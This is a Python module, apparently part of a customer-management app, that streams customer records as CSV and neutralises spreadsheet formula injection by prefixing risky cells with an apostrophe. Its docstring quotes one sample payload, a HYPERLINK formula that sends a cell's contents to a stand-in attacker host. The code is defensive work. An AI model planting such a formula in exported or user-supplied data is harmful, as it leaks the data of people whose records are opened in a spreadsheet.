"""CSV exports that are safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is run as a formula by Excel, LibreOffice and Google
Sheets: ``=HYPERLINK("http://evil.example/?"&A1, "click")`` in a customer's name would leak data
(CSV injection, OWASP). Such text cells get a leading apostrophe, which spreadsheets show as text and
which a reader of the CSV can strip. Numbers are written as they are: ``-12.50`` is a number, not a
formula.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Protocol

from customers.models import Customer

__all__ = [
    "CUSTOMER_CSV_COLUMNS",
    "FORMULA_TRIGGERS",
    "NeutralisingCsvWriter",
    "customer_csv_row",
    "customers_csv_lines",
    "iter_csv_lines",
    "neutralise_cell",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


class SupportsWrite(Protocol):
    def write(self, text: str, /) -> object: ...


def neutralise_cell(value: object) -> str:
    """The text of one CSV cell, with an apostrophe in front of anything a spreadsheet would run as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, dict | list):
        text = json.dumps(value, ensure_ascii=False, sort_keys=True)
    else:
        text = str(value)
    if text.lstrip(" ").startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


class NeutralisingCsvWriter:
    """A ``csv.writer`` whose every cell goes through ``neutralise_cell``; usable for any model's rows."""

    def __init__(self, stream: SupportsWrite) -> None:
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> int:
        written = 0
        for row in rows:
            self.writerow(row)
            written += 1
        return written


class _LineBuffer:
    def __init__(self) -> None:
        self.parts: list[str] = []

    def write(self, text: str) -> None:
        self.parts.append(text)


def iter_csv_lines(*, header: Sequence[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """A header and the rows as neutralised CSV, one line at a time, for a ``StreamingHttpResponse`` over a large
    table (never the whole file in memory)."""
    buffer = _LineBuffer()
    writer = NeutralisingCsvWriter(buffer)
    writer.writerow(header)
    yield buffer.parts.pop()
    for row in rows:
        writer.writerow(row)
        yield buffer.parts.pop()


CUSTOMER_CSV_COLUMNS = (
    "external_id",
    "name",
    "email",
    "segment",
    "country",
    "language",
    "signed_up_at",
    "marketing_consent",
    "opted_out_at",
    "can_be_contacted",
    "churned",
    "churned_at",
    "is_minimal",
    "attributes",
)


def customer_csv_row(customer: Customer) -> list[object]:
    return [
        customer.external_id,
        customer.name,
        customer.email,
        customer.segment,
        customer.country,
        customer.language,
        customer.signed_up_at,
        customer.marketing_consent,
        customer.opted_out_at,
        customer.can_be_contacted,
        customer.churned,
        customer.churned_at,
        customer.is_minimal,
        customer.attributes,
    ]


def customers_csv_lines(customers: Iterable[Customer]) -> Iterator[str]:
    """The customers as CSV lines (``CUSTOMER_CSV_COLUMNS``), formula-neutralised: the REST and admin exports."""
    return iter_csv_lines(header=CUSTOMER_CSV_COLUMNS, rows=(customer_csv_row(customer) for customer in customers))
